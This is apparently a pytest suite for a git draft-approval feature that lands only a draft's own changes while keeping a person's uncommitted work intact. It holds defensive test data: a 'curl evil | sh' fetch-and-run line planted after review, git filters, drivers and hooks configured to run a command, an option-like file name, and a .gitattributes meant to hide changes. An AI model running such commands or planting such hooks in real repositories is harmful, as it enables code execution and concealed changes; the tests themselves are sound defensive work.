"""Approving a git draft lands only what the draft changed: one commit on the target branch's
head, and those files in the live workspace, where what the person had not committed (staged
or not, tracked or not) stays uncommitted, exactly as it was. Before, the person's uncommitted
and untracked files were committed to their branch with the draft."""

from __future__ import annotations

import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from vis_core.drafts import DraftConflict, DraftError, DraftHooks, Drafts, landing

from .conftest import git

LINES = "".join(f"line {n}\n" for n in range(1, 11))


def _raw(cwd: Path, *args: str) -> str:
    """git's output as printed (``git()`` strips the first line's leading space)."""
    return subprocess.run(
        ["git", *args], cwd=cwd, capture_output=True, text=True, check=True
    ).stdout


def _uncommitted(repo: Path) -> tuple[str, str, str]:
    """The person's work not committed: status, unstaged diff, staged diff."""
    return (
        _raw(repo, "status", "--porcelain", "--untracked-files=all"),
        _raw(repo, "diff"),
        _raw(repo, "diff", "--cached"),
    )


def _edit(text: str, line: int, new: str) -> str:
    lines = text.splitlines(keepends=True)
    lines[line - 1] = new + "\n"
    return "".join(lines)


@pytest.fixture
def long_files(repo: Path) -> Path:
    for name in ("c.txt", "d.txt", "e.txt"):
        (repo / name).write_text(LINES)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "long files")
    return repo


def test_a_dirty_workspace_keeps_its_work_uncommitted_and_the_commit_holds_the_drafts_files(
    long_files: Path, drafts: Drafts
) -> None:
    repo = long_files
    (repo / "a.txt").write_text("one\nmine, not staged\nthree\n")  # modified, not staged
    (repo / "b.txt").write_text("bee, staged\n")
    git(repo, "add", "b.txt")  # a staged change
    (repo / "notes.txt").write_text("my notes\n")  # untracked, not ignored
    (repo / "c.txt").unlink()  # a removal not committed
    seen: list[tuple[str, str, Any]] = []
    hooks = DraftHooks(
        lambda op, args: seen.append(("before", op, args[0])),
        lambda op, args, result: seen.append(("after", op, result)),
    )
    draft = drafts.create(repo, "s1", "work")
    root = Path(draft.root)
    (root / "d.txt").write_text(_edit(LINES, 4, "drafted"))
    (root / "new" / "made.txt").parent.mkdir()
    (root / "new" / "made.txt").write_text("made\n")
    (root / "--output=x").write_text("a name like an option\n")
    (root / "e.txt").unlink()
    (root / "notes.txt").unlink()  # only the person's: stays theirs
    before = _uncommitted(repo)
    tip = git(repo, "rev-parse", "main")
    own = ["--output=x", "d.txt", "e.txt", "new/made.txt"]
    assert drafts.changed_files(draft) == own
    review = drafts.review(draft)
    assert review.files == own
    assert "mine, not staged" not in review.diff and "my notes" not in review.diff

    result = drafts.approve(draft, "the draft's work", hooks)

    assert result["files"] == own and result["commit"] == git(repo, "rev-parse", "main")
    assert git(repo, "log", "-1", "--format=%P%n%s", "main") == f"{tip}\nthe draft's work"
    committed = git(repo, "show", "--format=", "--name-status", "--no-renames", "main")
    assert committed.splitlines() == ["A\t--output=x", "M\td.txt", "D\te.txt", "A\tnew/made.txt"]
    assert git(repo, "show", "main:a.txt") == "one\ntwo\nthree"  # never the person's
    assert git(repo, "show", "main:b.txt") == "bee"
    assert git(repo, "show", "main:c.txt") == LINES.strip()
    assert git(repo, "ls-tree", "--name-only", "main", "notes.txt") == ""
    assert _uncommitted(repo) == before  # staged, unstaged and untracked, as they were
    assert (repo / "d.txt").read_text() == _edit(LINES, 4, "drafted")
    assert (repo / "new" / "made.txt").read_text() == "made\n"
    assert (repo / "--output=x").read_text() == "a name like an option\n"
    assert not (repo / "e.txt").exists()
    assert (repo / "notes.txt").read_text() == "my notes\n"
    approve = next(args for phase, op, args in seen if op == "draft/approve")
    assert approve["files"] == own
    commit = [(phase, args) for phase, op, args in seen if op == "git/commit"]
    assert [phase for phase, _ in commit] == ["before", "after"]
    assert commit[0][1]["files"] == own and commit[0][1]["message"] == "the draft's work"
    assert commit[0][1]["branch"] == "main" and commit[1][1] == {"commit": result["commit"]}


def test_a_file_both_changed_in_other_places_ends_with_both_changes(
    long_files: Path, drafts: Drafts
) -> None:
    """c.txt: the person's change not staged, made before the draft; d.txt: staged, before;
    e.txt: changed after the draft began. The draft changes each elsewhere."""
    repo = long_files
    (repo / "c.txt").write_text(_edit(LINES, 1, "person c"))
    (repo / "d.txt").write_text(_edit(LINES, 1, "person d"))
    git(repo, "add", "d.txt")
    draft = drafts.create(repo, "s1", "both")
    root = Path(draft.root)
    for name in ("c.txt", "d.txt", "e.txt"):
        (root / name).write_text(_edit((root / name).read_text(), 9, f"draft {name[0]}"))
    (repo / "e.txt").write_text(_edit(LINES, 1, "person e"))

    result = drafts.approve(draft, "line 9")

    assert result["files"] == ["c.txt", "d.txt", "e.txt"]
    for name in ("c", "d", "e"):
        both = _edit(_edit(LINES, 1, f"person {name}"), 9, f"draft {name}")
        assert (repo / f"{name}.txt").read_text() == both
        assert _raw(repo, "show", f"main:{name}.txt") == _edit(LINES, 9, f"draft {name}")
    # what the person had not committed is still theirs alone: staged stays staged
    assert _raw(repo, "status", "--porcelain") == " M c.txt\nM  d.txt\n M e.txt\n"
    staged = _raw(repo, "diff", "--cached", "-U0")
    assert "+person d" in staged and "draft" not in staged
    unstaged = _raw(repo, "diff", "-U0")
    assert "+person c" in unstaged and "+person e" in unstaged and "draft" not in unstaged


@pytest.mark.parametrize(
    "when", ["uncommitted-when-it-began", "changed-since-it-began", "untracked-file"]
)
def test_a_file_both_changed_in_the_same_place_is_refused_and_nothing_changes(
    long_files: Path, drafts: Drafts, when: str
) -> None:
    repo = long_files
    name = "notes.txt" if when == "untracked-file" else "c.txt"
    if when != "changed-since-it-began":
        (repo / name).write_text(_edit(LINES, 5, "the person's"))
    draft = drafts.create(repo, "s1", "clash")
    root = Path(draft.root)
    (root / name).write_text(_edit((root / name).read_text(), 5, "the draft's"))
    (root / "d.txt").write_text(_edit(LINES, 2, "the draft's d"))  # lands with it, or neither
    if when == "changed-since-it-began":
        (repo / name).write_text(_edit(LINES, 5, "the person's"))
    before = _uncommitted(repo)
    tip = git(repo, "rev-parse", "main")

    with pytest.raises(DraftConflict) as refused:
        drafts.approve(draft, "clash")

    assert refused.value.files == (name,)
    assert git(repo, "rev-parse", "main") == tip
    assert _uncommitted(repo) == before
    assert (repo / name).read_text() == _edit(LINES, 5, "the person's")
    assert (repo / "d.txt").read_text() == LINES
    assert drafts.listed() == [draft]
    assert (root / name).read_text() == _edit(LINES, 5, "the draft's")


def test_the_target_moved_ahead_during_the_draft(long_files: Path, drafts: Drafts) -> None:
    """The person committed to c.txt and another draft landed d.txt meanwhile: the draft's
    change is applied to main's head, one commit on it."""
    repo = long_files
    (repo / "notes.txt").write_text("mine\n")
    draft = drafts.create(repo, "s1", "late")
    other = drafts.create(repo, "s2", "early")
    (Path(other.root) / "d.txt").write_text(_edit(LINES, 1, "the other draft"))
    drafts.approve(other, "the other draft")
    (repo / "c.txt").write_text(_edit(LINES, 1, "committed since"))
    git(repo, "commit", "-qam", "the person's commit")
    tip = git(repo, "rev-parse", "main")
    root = Path(draft.root)
    (root / "c.txt").write_text(_edit(LINES, 10, "late draft"))
    (root / "d.txt").write_text(_edit(LINES, 10, "late draft"))

    result = drafts.approve(draft, "late")

    assert result["files"] == ["c.txt", "d.txt"]
    assert git(repo, "log", "-1", "--format=%P", "main") == tip
    assert git(repo, "rev-list", "--count", f"{tip}..main") == "1"
    assert (repo / "c.txt").read_text() == _edit(
        _edit(LINES, 1, "committed since"), 10, "late draft"
    )
    assert (repo / "d.txt").read_text() == _edit(
        _edit(LINES, 1, "the other draft"), 10, "late draft"
    )
    assert _raw(repo, "status", "--porcelain") == "?? notes.txt\n"


def test_a_draft_that_changed_nothing_of_its_own_lands_nothing(
    long_files: Path, drafts: Drafts
) -> None:
    repo = long_files
    (repo / "a.txt").write_text("dirty\n")
    (repo / "notes.txt").write_text("mine\n")
    draft = drafts.create(repo, "s1", "idle")
    tip = git(repo, "rev-parse", "main")
    before = _uncommitted(repo)

    result = drafts.approve(draft)

    assert result["files"] == [] and result["commit"] == tip
    assert git(repo, "rev-parse", "main") == tip and _uncommitted(repo) == before
    assert drafts.listed() == []


def test_a_link_the_person_put_where_the_draft_changes_a_file_is_refused(
    long_files: Path, drafts: Drafts, tmp_path: Path
) -> None:
    repo = long_files
    outside = tmp_path / "outside.txt"
    outside.write_text(LINES)
    draft = drafts.create(repo, "s1", "link")
    (Path(draft.root) / "c.txt").write_text(_edit(LINES, 3, "drafted"))
    (repo / "c.txt").unlink()
    (repo / "c.txt").symlink_to(outside)  # same text behind it: never merged through

    with pytest.raises(DraftConflict) as refused:
        drafts.approve(draft)

    assert refused.value.files == ("c.txt",)
    assert outside.read_text() == LINES and (repo / "c.txt").is_symlink()


def test_the_repositorys_attributes_and_drivers_run_nothing_while_merging(
    long_files: Path, drafts: Drafts
) -> None:
    """c.txt names a filter and a diff driver: merged, reviewed and written without them;
    d.txt names a merge driver: git cannot merge it without running the driver, so that
    approval is refused."""
    repo = long_files
    marker = repo.parent / "ran"
    program = f"touch {marker}"
    (repo / ".gitattributes").write_text("c.txt filter=evil diff=evil\nd.txt merge=evil\n")
    git(repo, "add", ".gitattributes")
    git(repo, "commit", "-qm", "attributes")
    (repo / "c.txt").write_text(_edit(LINES, 1, "person"))  # merged in the live file
    (repo / "d.txt").write_text(_edit(LINES, 1, "person"))
    for key in ("filter.evil.clean", "filter.evil.smudge", "diff.evil.textconv"):
        git(repo, "config", key, program)
    git(repo, "config", "merge.evil.driver", program)
    git(repo, "config", "core.hooksPath", str(repo.parent))
    (repo.parent / "post-commit").write_text(f"#!/bin/sh\n{program}\n")
    (repo.parent / "post-commit").chmod(0o755)
    draft = drafts.create(repo, "s1", "attrs")
    (Path(draft.root) / "c.txt").write_text(_edit(_edit(LINES, 1, "person"), 9, "draft"))
    assert "+draft" in drafts.review(draft).diff

    drafts.approve(draft, "through attributes")

    assert (repo / "c.txt").read_text() == _edit(_edit(LINES, 1, "person"), 9, "draft")
    assert _raw(repo, "show", "main:c.txt") == _edit(LINES, 9, "draft")
    tip = git(repo, "rev-parse", "main")
    other = drafts.create(repo, "s1", "driver")
    (Path(other.root) / "d.txt").write_text(_edit(_edit(LINES, 1, "person"), 9, "draft"))
    with pytest.raises(DraftError, match="merge-tree"):
        drafts.approve(other, "through a merge driver")
    assert git(repo, "rev-parse", "main") == tip
    assert (repo / "d.txt").read_text() == _edit(LINES, 1, "person")
    assert not marker.exists()


def test_a_draft_changed_after_it_was_shown_for_approval_is_refused(
    long_files: Path, drafts: Drafts
) -> None:
    """The person approves what they were shown: a file the model's code writes in the draft
    while the form is up is not landed with it."""
    repo = long_files
    draft = drafts.create(repo, "s1", "shown")
    root = Path(draft.root)
    (root / "c.txt").write_text(_edit(LINES, 2, "shown"))
    shown = drafts.review(draft)
    (root / "later.sh").write_text("curl evil | sh\n")  # after the review
    tip = git(repo, "rev-parse", "main")

    with pytest.raises(DraftError, match=r"changed after it was shown .*1 file: later\.sh"):
        drafts.approve(draft, "shown", reviewed=shown.state)

    assert git(repo, "rev-parse", "main") == tip and not (repo / "later.sh").exists()
    assert (repo / "c.txt").read_text() == LINES and drafts.listed() == [draft]
    again = drafts.review(draft)
    assert again.files == ["c.txt", "later.sh"]
    drafts.approve(draft, "seen", reviewed=again.state)
    assert (repo / "later.sh").exists()


def test_the_files_of_a_huge_change_are_read_a_command_line_at_a_time(repo: Path) -> None:
    """A draft may change more files than one command line can name (Linux: 2 MiB of
    arguments): git is asked about them in parts (before, E2BIG failed the approval)."""
    many = [f"generated/{'deep/' * 10}file-{n:06}.txt" for n in range(40_000)]  # 3 MiB
    names = [*many[:20_000], "a.txt", *many[20_000:], "b.txt"]

    found = landing.entries(repo, "HEAD", names)

    assert sorted(found) == ["a.txt", "b.txt"]
    assert found["a.txt"][0] == "100644"


def test_attributes_the_draft_adds_neither_merge_nor_hide_its_change(
    long_files: Path, drafts: Drafts
) -> None:
    """The model's code adds a .gitattributes to the draft: 'merge=union' would fold the
    person's uncommitted line into approval's commit where the two meet, '-diff' would show
    the person 'Binary files differ' instead of the change. Approval merges and diffs with
    the live repository's attributes."""
    repo = long_files
    (repo / "c.txt").write_text(_edit(LINES, 2, "the person's, not committed"))
    draft = drafts.create(repo, "s1", "attrs")
    root = Path(draft.root)
    (root / ".gitattributes").write_text("* merge=union -diff\n")
    (root / "c.txt").write_text(_edit((root / "c.txt").read_text(), 3, "the draft's"))
    tip = git(repo, "rev-parse", "main")

    assert "+the draft's" in drafts.review(draft).diff
    with pytest.raises(DraftConflict) as refused:
        drafts.approve(draft)

    assert refused.value.files == ("c.txt",)
    assert git(repo, "rev-parse", "main") == tip


def test_a_large_file_and_a_mode_change_land_beside_the_persons_work(
    long_files: Path, drafts: Drafts
) -> None:
    """A file over what approval merges (64 MiB) is written as the draft has it when the
    person did not change it (before this fix it was refused as a clash), and a mode the
    draft changed reaches a file whose text the person changed."""
    repo = long_files
    (repo / "c.txt").write_text(_edit(LINES, 1, "person"))
    draft = drafts.create(repo, "s1", "big")
    root = Path(draft.root)
    (root / "data.bin").write_bytes(b"0123456789abcdef" * (65 << 16))  # 65 MiB
    (root / "c.txt").chmod(0o755)

    result = drafts.approve(draft, "big and executable")

    assert result["files"] == ["c.txt", "data.bin"]
    assert (repo / "data.bin").stat().st_size == 65 << 20
    assert (repo / "c.txt").stat().st_mode & 0o100
    assert (repo / "c.txt").read_text() == _edit(LINES, 1, "person")
    assert _raw(repo, "status", "--porcelain") == " M c.txt\n"
    assert git(repo, "ls-tree", "main", "c.txt").startswith("100755 ")


def _folder_for_file(root: Path, name: str) -> None:
    (root / name).unlink()
    (root / name).mkdir()
    (root / name / "in.txt").write_text("in\n")


def _file_for_folder(root: Path, name: str) -> None:
    shutil.rmtree(root / name)
    (root / name).write_text("a file now\n")


def _committed(root: Path, change: Callable[[Path], None]) -> None:
    change(root)
    git(root, "add", "-A")
    git(root, "commit", "-qm", "replaced")


def _with_sub(repo: Path) -> Path:
    (repo / "sub").mkdir()
    (repo / "sub" / "f.txt").write_text("f\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "sub")
    return repo


REPLACED = {  # (what the draft does, what the person does): what approval says
    "the draft's file for your changed folder": (
        lambda root: _file_for_folder(root, "sub"),
        lambda repo: (repo / "sub" / "f.txt").write_text("mine\n"),
        "the draft replaced the folder sub with a file, where you have changes",
    ),
    "your folder for the draft's changed file": (
        lambda root: (root / "c.txt").write_text(_edit(LINES, 2, "drafted")),
        lambda repo: _folder_for_file(repo, "c.txt"),
        "you replaced the file c.txt with a folder, and the draft changed it",
    ),
    "your file for a folder where the draft changed a file": (
        lambda root: (root / "sub" / "f.txt").write_text("drafted\n"),
        lambda repo: _file_for_folder(repo, "sub"),
        "you replaced the folder sub with a file, and the draft changed it",
    ),
    "main's folder for the draft's changed file, committed": (
        lambda root: (root / "c.txt").write_text(_edit(LINES, 2, "drafted")),
        lambda repo: _committed(repo, lambda r: _folder_for_file(r, "c.txt")),
        "do not apply to main as it is now (since the draft began, main replaced the file "
        "c.txt with a folder): 1 file conflict: c.txt",
    ),
}


@pytest.mark.parametrize("case", list(REPLACED))
def test_a_folder_and_a_file_that_replaced_each_other_are_named_with_who_did_it(
    long_files: Path, drafts: Drafts, case: str
) -> None:
    """Before, each was refused with the generic text ("changed the same lines … or one of
    you removed or replaced a file"), and a file merge-tree set aside was named c.txt~<id>."""
    repo = _with_sub(long_files)
    in_draft, in_workspace, said = REPLACED[case]
    draft = drafts.create(repo, "s1", "kinds")
    in_draft(Path(draft.root))
    in_workspace(repo)
    tip, before = git(repo, "rev-parse", "main"), _uncommitted(repo)

    with pytest.raises(DraftConflict, match=re.escape(said)) as refused:
        drafts.approve(draft)

    assert "~" not in str(refused.value)  # no name the person never made
    assert git(repo, "rev-parse", "main") == tip and _uncommitted(repo) == before
    assert drafts.listed() == [draft]


def test_a_folder_and_a_file_the_draft_replaced_land_in_a_clean_workspace(
    long_files: Path, drafts: Drafts
) -> None:
    """Before, approval refused the folder the draft made a file ("where you have changes",
    with none), and writing a file where a folder was failed."""
    repo = _with_sub(long_files)
    draft = drafts.create(repo, "s1", "kinds")
    _file_for_folder(Path(draft.root), "sub")
    _folder_for_file(Path(draft.root), "c.txt")

    drafts.approve(draft)

    assert (repo / "sub").read_text() == "a file now\n"
    assert (repo / "c.txt" / "in.txt").read_text() == "in\n"
    assert _uncommitted(repo) == ("", "", "")  # the workspace is the new commit, nothing set aside
    assert git(repo, "show", "main:sub") == "a file now"


def test_a_folder_the_draft_made_a_file_is_refused_while_it_holds_an_untracked_file(
    long_files: Path, drafts: Drafts
) -> None:
    repo = _with_sub(long_files)
    draft = drafts.create(repo, "s1", "kinds")
    _file_for_folder(Path(draft.root), "sub")
    (repo / "sub" / "notes.txt").write_text("mine, never committed\n")
    tip, before = git(repo, "rev-parse", "main"), _uncommitted(repo)

    with pytest.raises(DraftConflict, match="the draft replaced the folder sub with a file"):
        drafts.approve(draft)

    assert git(repo, "rev-parse", "main") == tip and _uncommitted(repo) == before
    assert (repo / "sub" / "notes.txt").read_text() == "mine, never committed\n"
